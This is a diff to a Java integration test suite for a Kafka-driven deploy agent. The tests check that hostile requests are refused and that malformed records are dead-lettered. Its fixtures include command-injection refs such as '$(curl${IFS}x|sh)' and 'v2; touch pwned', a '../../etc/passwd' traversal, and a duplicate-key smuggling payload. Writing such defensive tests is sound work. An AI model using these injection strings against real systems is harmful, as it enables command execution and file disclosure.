@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
 import java.io.IOException;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.security.KeyPairGenerator;
@@ -32,6 +33,7 @@ import dev.bluegreen.events.DeployRequested;
 import dev.bluegreen.events.DeploymentLog;
 import dev.bluegreen.events.DeploymentStarted;
 import dev.bluegreen.events.Envelope;
+import dev.bluegreen.events.EnvelopeCodec;
 import dev.bluegreen.events.EnvironmentHealthy;
 import dev.bluegreen.events.EnvironmentProvisioned;
 import dev.bluegreen.events.ProvisioningFailed;
@@ -52,6 +54,8 @@ class DeployAgentTest {
 
     private static EventLog events;
 
+    private static EventLog deadLetters;
+
     @TempDir
     Path folder;
 
@@ -64,11 +68,13 @@ class DeployAgentTest {
     @BeforeAll
     static void openEventLog() {
         events = EventLog.open(KafkaFixture.bootstrapServers(), Topics.LIFECYCLE, Topics.DEPLOYMENT_LOGS);
+        deadLetters = EventLog.open(KafkaFixture.bootstrapServers(), Topics.LIFECYCLE + ".DLT");
     }
 
     @AfterAll
     static void closeEventLog() {
         events.close();
+        deadLetters.close();
     }
 
     @BeforeEach
@@ -197,19 +203,92 @@ class DeployAgentTest {
     }
 
     @Test
-    void aHostileRefStaysALiteralRef() throws IOException {
+    void aRefThatAShellWouldRunIsRefusedByTheAgentAndNothingRunsOnAnyDroplet() throws IOException {
         startAgent();
 
-        String deploymentId = requestDeploy("v2; touch pwned");
+        for (String hostile : List.of("$(curl${IFS}x|sh)", "v2; touch pwned", "../../etc/passwd")) {
+            String deploymentId = requestDeploy(hostile);
 
-        ProvisioningFailed failed = events.awaitEvent(ProvisioningFailed.class, deploymentId)
-                .dataAs(ProvisioningFailed.class);
-        assertThat(failed.step()).isEqualTo("fetch");
-        assertThat(failed.outputTail()).contains("v2; touch pwned");
+            ProvisioningFailed failed = events.awaitEvent(ProvisioningFailed.class, deploymentId)
+                    .dataAs(ProvisioningFailed.class);
+            assertThat(failed.reason()).as(hostile).startsWith("The deploy-agent refused the request: the ref ")
+                    .endsWith(". No step ran on any droplet.").doesNotContain(hostile);
+            assertThat(failed.step()).isNull();
+            assertThat(lifecycleEventsOfTheAgent(deploymentId)).containsExactly("ProvisioningFailed");
+        }
+        assertThat(sandbox.droplets(Colour.GREEN)).as("nothing ran on a green droplet")
+                .allSatisfy(green -> assertThat(green.server().folder().resolve(".git")).doesNotExist());
         try (Stream<Path> files = Files.walk(sandbox.workFolder())) {
             assertThat(files.map(Path::getFileName).map(Path::toString)).doesNotContain("pwned");
         }
         assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
+    }
+
+    /**
+     * What Kafka may hand the agent that is no request at all, or one too large to be: each goes to the lifecycle
+     * topic's dead-letter topic as it came, the agent publishes nothing for it, and it serves the next request.
+     */
+    @Test
+    void recordsThatDoNotReadGoToTheDeadLetterTopicAndTheAgentServesTheNextRequest() {
+        startAgent();
+        String json = new EnvelopeCodec().writeString(Envelope.of("test", UUID.randomUUID().toString(),
+                new DeployRequested(app, "v2", null, "mallory")));
+        List<String> garbage = List.of(
+                json.substring(0, json.length() / 2), // truncated
+                json.replace("\"data\":{", "\"data\":{\"deep\":" + "[".repeat(100_000) + "]".repeat(100_000)
+                        + ","), // nested past any parser's limit
+                json.replace("\"ref\":\"v2\"", "\"ref\":{\"$ne\":null}"), // an object where a string goes
+                // a key twice: a reader that keeps the first "ref" would see v2, one that keeps the last a command
+                json.replace("\"ref\":\"v2\"", "\"ref\":\"v2\",\"ref\":\"$(curl${IFS}x|sh)\""),
+                json.replaceFirst("\"time\":(\"[^\"]*\"|[0-9.]+)", "\"time\":\"yesterday\""), // not a time
+                "\u0000\u00ff\ufffe not even text");
+        assertThat(garbage).as("each is changed from the envelope").doesNotContain(json);
+        // larger than any event: folded, it would grow the app's state past what Kafka stores, and stop the stream
+        Envelope oversize = Envelope.of("test", UUID.randomUUID().toString(), new DeployRequested(app,
+                "v".repeat(600_000), null, "mallory"));
+
+        garbage.forEach(value -> events.publishRaw(Topics.LIFECYCLE, app, value.getBytes(StandardCharsets.UTF_8)));
+        events.publish(oversize);
+        String next = requestDeploy("v2");
+
+        events.awaitEvent(EnvironmentProvisioned.class, next);
+        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
+            assertThat(deadLetters.unreadable()).filteredOn(letter -> app.equals(letter.key()))
+                    .extracting(EventLog.Unreadable::text).containsExactlyElementsOf(garbage);
+            assertThat(deadLetters.events()).as("the oversize request, which reads as an envelope elsewhere")
+                    .extracting(Envelope::id).contains(oversize.id());
+        });
+        assertThat(events.events()).as("the agent published nothing but the good request's events")
+                .filteredOn(event -> event.source().equals("deploy-agent") && event.subject().equals(app))
+                .extracting(Envelope::deploymentId).containsOnly(next);
+        assertThat(events.events()).filteredOn(event -> event.deploymentId().equals(oversize.deploymentId()))
+                .extracting(Envelope::source).containsOnly("test");
+    }
+
+    /**
+     * What reads as a request but holds what no request should: refused with a reason, nothing runs, nothing of it is
+     * quoted back, and the agent serves the next request.
+     */
+    @Test
+    void requestsWithHostileValuesThatDoReadAreRefusedAndTheAgentServesTheNextRequest() {
+        startAgent();
+        String oversize = requestDeploy("v".repeat(10_000));
+        ProvisioningFailed tooLong = events.awaitEvent(ProvisioningFailed.class, oversize)
+                .dataAs(ProvisioningFailed.class);
+        assertThat(tooLong.reason()).isEqualTo("The deploy-agent refused the request: the ref must not be longer "
+                + "than 255 characters. No step ran on any droplet.");
+        assertThat(tooLong.ref()).as("the event does not carry the oversize ref back").hasSizeLessThan(300);
+        String climbing = UUID.randomUUID().toString();
+        events.publish(Envelope.of("test", climbing, new DeployRequested("../../" + app, "v2", null, "mallory")));
+        assertThat(events.awaitEvent(RequestRefused.class, climbing).dataAs(RequestRefused.class).reason())
+                .startsWith("There is no app named");
+
+        String next = requestDeploy("v2");
+
+        events.awaitEvent(EnvironmentProvisioned.class, next);
+        assertThat(List.of(oversize, climbing)).allSatisfy(refused -> assertThat(events.events())
+                .filteredOn(event -> event.deploymentId().equals(refused))
+                .noneMatch(event -> event.data() instanceof DeploymentStarted || event.data() instanceof DeploymentLog));
     }
 
     @Test
